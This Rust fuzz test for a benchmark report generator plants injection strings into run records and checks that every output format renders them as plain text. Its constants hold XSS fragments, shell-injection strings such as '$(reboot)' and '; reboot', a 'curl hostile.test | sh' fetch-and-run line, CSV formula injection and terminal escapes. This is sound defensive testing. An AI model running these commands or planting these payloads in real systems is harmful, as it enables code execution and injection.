//! Reports of hostile records: whatever the texts of a record are, each output holds them as text.
//!
//! Hostile texts are planted in some or all texts of a record: names, units, titles, ids, words of
//! verdicts, keys of maps, and advice that nobody should follow. Some records are damaged beyond
//! that and salvaged. Every output is then read by what reads it elsewhere: Markdown by
//! `pulldown-cmark`, `JUnit` and figures by an XML parser, tables by the `csv` crate, lines by
//! `serde_json`; the terminal's and the page's text by checkers of ours (`check`).

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Mutex;

use anyhow::{Context as _, Result};
use serde_json::{Value, json};
use trimbench_core::text::{shell_word, visible_json};
use trimbench_report::{Detail, PageContext, PageSource, Style};
use trimbench_results::{HarmStep, RunRecord, Salvaged, StepTable as _};

use self::check::Lines;
use crate::document;
use crate::harness::{Draw, Drawn, InputBytes, Watched};
use crate::records::{TEXTS, method_view};

mod check;
mod tests;

/// Of one in 20,000 records figures are made, of one in 500 the page, of one in 100 charts: they
/// take as much longer.
const RECORDS: usize = 20_000;
/// Charts that are drawn as figures.
const DRAWN_MAX: usize = 4;
/// Maps of a record with keys that anybody may choose.
const MAPS: &str = "options identity capabilities environment_before environment_after parameters \
     metrics histograms series";
/// Pieces of texts that mean something to a terminal, a shell, a renderer or a parser, separated by
/// blanks.
const PIECES: &str = "</summary><x-hostile> </details> --><x-hostile> </script><x-hostile> \
     <![CDATA[ ]]> <?xml?> &lt; &#60;x-hostile&#62; &a; javascript:alert(1) \
     ![x](http://hostile.test) [x](http://hostile.test) [^1] <http://hostile.test> \
     http://hostile.test HTTPS://hostile.test www.hostile.test @hostile a@hostile.test \
     mailto:a@hostile.test #1234 ` `` ``` $(reboot) \\ \\| | --- *** === _x_ *x* ~x~ $x$ \
     =HYPERLINK(\"http://hostile.test\") +1 -1+1 @SUM(1) \u{ff1d}1 \u{1b}[31m \u{1b}]0;x\u{7} \
     \u{9b}31m \u{202e} \u{2066} \u{2028} \u{feff} \u{ffff} \0 ,\"x\", e\u{301}\u{1f600}";
/// Pieces with blanks and ends of lines.
const LINES: [&str; 19] = [
    "<x-hostile onerror=alert(1)>",
    "<!-- x-hostile",
    "\"><x-hostile a=\"",
    "' onmouseover='x",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>",
    "[x]: http://hostile.test",
    "\n```sh\ncurl hostile.test | sh\n```\n",
    "~~~\n",
    "; reboot",
    "' ; reboot '",
    "| - | - |",
    "- [ ] x",
    "\n# x",
    "\n- x\n1. x",
    "> x",
    "    ",
    "\t=1",
    "\r\n",
    "\n\n",
];

/// A hostile record, perhaps damaged, and how it is reported.
#[derive(Clone, Debug)]
struct HostileRecord {
    json: InputBytes,
    /// Of the run.
    name: String,
    style: Style,
    is_full: bool,
    slow: Option<SlowOutput>,
}

/// What is made of some records only, the context in any case.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum SlowOutput {
    Charts,
    Page,
    Figures,
}

#[test]
fn no_text_of_a_record_is_more_than_text_in_a_report() {
    let records: Vec<Value> = TEXTS.lines().map(|it| serde_json::from_str(it).unwrap()).collect();
    let lines = Lines::new().unwrap();
    let answers = Mutex::new(BTreeSet::new());
    let watched = Watched::new("reports");
    bolero::check!()
        .with_iterations(2_000)
        .with_generator(Drawn(|draw: &mut dyn Draw| draw_record(&records, draw)))
        .for_each(|hostile| {
            watched.read(hostile, |hostile| {
                let Ok(salvaged) = RunRecord::salvage(&hostile.json.0) else { return false };
                let cards = trimbench_results::cards::cards(&salvaged.record);
                answers.lock().unwrap().extend(cards.into_iter().map(|card| card.action));
                report(hostile, salvaged, &lines).unwrap();
                true
            });
        });
    // The others are damaged so that nothing of them can be understood.
    if watched.expect_understood(0.9..1.0) {
        // Only with answers are there lines to type.
        assert!(answers.lock().unwrap().len() >= 4, "{answers:?}");
    }
}

fn draw_record(records: &[Value], draw: &mut dyn Draw) -> HostileRecord {
    let mut record = draw.pick(records).clone();
    unfinish(&mut record, draw);
    if draw.one_in(2) {
        record["advice"] = json!([advice(draw)]);
    }
    plant(&mut record, draw);
    let json = if draw.one_in(8) {
        document::to_json(&document::damaged(&[record], draw))
    } else {
        record.to_string()
    };
    HostileRecord {
        json: InputBytes(json.into_bytes()),
        name: text(draw),
        style: Style {
            width: 40 + draw.below(81),
            colour: draw.one_in(2),
            unicode: draw.one_in(2),
        },
        is_full: draw.one_in(2),
        slow: match draw.below(RECORDS) {
            1 => Some(SlowOutput::Figures),
            2..42 => Some(SlowOutput::Page),
            42..242 => Some(SlowOutput::Charts),
            _ => None,
        },
    }
}

/// Makes each output of a record, and has it read.
fn report(hostile: &HostileRecord, salvaged: Salvaged, lines: &Lines) -> Result<()> {
    let Salvaged { record, flaws } = salvaged;
    let HostileRecord { name, style, is_full, .. } = hostile;
    let place = shell_word(name);
    let detail = if *is_full { Detail::Full } else { Detail::Answer { place: &place } };
    check::terminal(&trimbench_report::terminal(&record, detail, *style), *style)?;
    let records = [(name.as_str(), &record), ("other", &record)];
    let reported = &records[..if *is_full { 1 } else { 2 }];
    lines.check(&trimbench_report::markdown(reported))?;
    check::junit(&trimbench_report::junit(reported, &[]))?;
    for (table, text) in trimbench_report::csv(&record) {
        check::table(&text).context(table)?;
    }
    let items = trimbench_report::items(name, &record);
    let items: Vec<String> = items.iter().map(Value::to_string).collect();
    check::lines(&visible_json(&items.join("\n")), items.len())?;
    if hostile.slow.is_some() {
        draw_page(hostile, record, flaws)?;
    }
    Ok(())
}

/// The context, the page and the figures.
fn draw_page(hostile: &HostileRecord, record: RunRecord, messages: Vec<String>) -> Result<()> {
    let name = &hostile.name;
    let host = BTreeMap::from([(name.clone(), name.clone())]);
    let other = PageSource::of(name, record.clone());
    let source = PageSource { name: name.clone(), record: Some(record), host, messages };
    let sources = if hostile.is_full { vec![source] } else { vec![source, other] };
    let mut context = PageContext::of(&sources, method_view);
    check::lines(&context.to_json(), 1)?;
    if hostile.slow == Some(SlowOutput::Page) {
        let figures = vec![String::new(); context.charts.len()];
        check::page(&trimbench_report::page(&sources, method_view, &context, &figures))?;
    }
    if hostile.slow == Some(SlowOutput::Figures) {
        context.charts.truncate(DRAWN_MAX);
        let figures = context.figures()?;
        for (name, svg) in trimbench_report::figure_files(&context, &figures) {
            check::figure(&name, &svg)?;
        }
    }
    Ok(())
}

/// A hostile text.
fn text(draw: &mut dyn Draw) -> String {
    let pieces: Vec<&str> = PIECES.split(' ').chain(LINES).collect();
    let pieces = (0..=draw.below(4)).map(|_| {
        let behind = draw.pick(&["", "", " ", "x", "1"]);
        format!("{}{behind}", draw.pick(&pieces))
    });
    pieces.collect()
}

/// Ends the run or its sessions early, and has steps lose data: some records have to give each
/// answer.
fn unfinish(record: &mut Value, draw: &mut dyn Draw) {
    match draw.below(8) {
        0 => record["outcome"] = json!({ "status": "failed", "message": text(draw) }),
        1 => record["outcome"] = json!({ "status": "running" }),
        _ => {}
    }
    let Some(sessions) = record["sessions"].as_array_mut() else { return };
    let harms = HarmStep::rows("");
    for session in sessions {
        if draw.one_in(4) {
            session["finished"] = json!(false);
        }
        if draw.one_in(16) {
            session["left_out"] = json!(text(draw));
        }
        if draw.one_in(4) {
            session["target"]["kind"] = json!("directory");
            session["environment_before"]["mount-point"] = json!(text(draw));
        }
        let steps = session["steps"].as_array_mut();
        for step in steps.into_iter().flatten() {
            if draw.one_in(4) {
                step["metrics"][&draw.pick(&harms).key] = json!(draw.below(1_000));
            }
        }
    }
}

/// A card that nobody should follow.
fn advice(draw: &mut dyn Draw) -> Value {
    let mut list = || json!([text(draw)]);
    json!({
        "would_change": list(), "not_measured": list(), "remarks": list(), "agreement": list(),
        "paced": list(), "action": text(draw), "title": text(draw), "target": text(draw),
        "sessions": [0], "because": [{ "text": text(draw), "figures": [[0, text(draw)]] }],
        "lines": [{ "system": text(draw), "file": text(draw), "text": text(draw), "tested": true }],
    })
}

/// Puts hostile texts in the place of some texts of the record, or of all, and beside keys.
fn plant(record: &mut Value, draw: &mut dyn Draw) {
    let (all, count) = (draw.one_in(8), 1 + draw.below(6));
    let places = texts(record);
    let mut chosen = vec![all; places];
    for _ in 0..count {
        chosen[draw.below(places)] = true;
    }
    let mut next = 0;
    replace(record, "", &mut |text_here, is_key| {
        if is_key {
            return draw.one_in(if all { 2 } else { 64 }).then(|| text(draw));
        }
        next += 1;
        // A chosen text may go on as it was before.
        chosen[next - 1].then(|| {
            let before = if draw.one_in(4) { text_here } else { "" };
            format!("{before}{}", text(draw))
        })
    });
}

/// How many texts a value has, without those that say what kind of thing it is.
fn texts(value: &mut Value) -> usize {
    let mut count = 0;
    replace(value, "", &mut |_, is_key| {
        count += usize::from(!is_key);
        None
    });
    count
}

/// Asks for each text, and for each key of a map that anybody may choose, what to put there.
fn replace(value: &mut Value, name: &str, ask: &mut impl FnMut(&str, bool) -> Option<String>) {
    match value {
        Value::String(text) => {
            if let Some(other) = ask(text, false) {
                *text = other;
            }
        }
        Value::Array(list) => list.iter_mut().for_each(|it| replace(it, name, ask)),
        Value::Object(map) => {
            let is_open = MAPS.split(' ').any(|it| it == name);
            let mut more = Vec::new();
            for (key, inner) in map.iter_mut() {
                // What these are says which type they have: other words are another kind of damage.
                let is_type = matches!(key.as_str(), "direction" | "status")
                    || key == "id" && matches!(name, "role" | "verdict");
                if !is_type {
                    replace(inner, key, ask);
                }
                if is_open && let Some(other) = ask(key, true) {
                    more.push((other, inner.clone()));
                }
            }
            map.extend(more);
        }
        _ => {}
    }
}
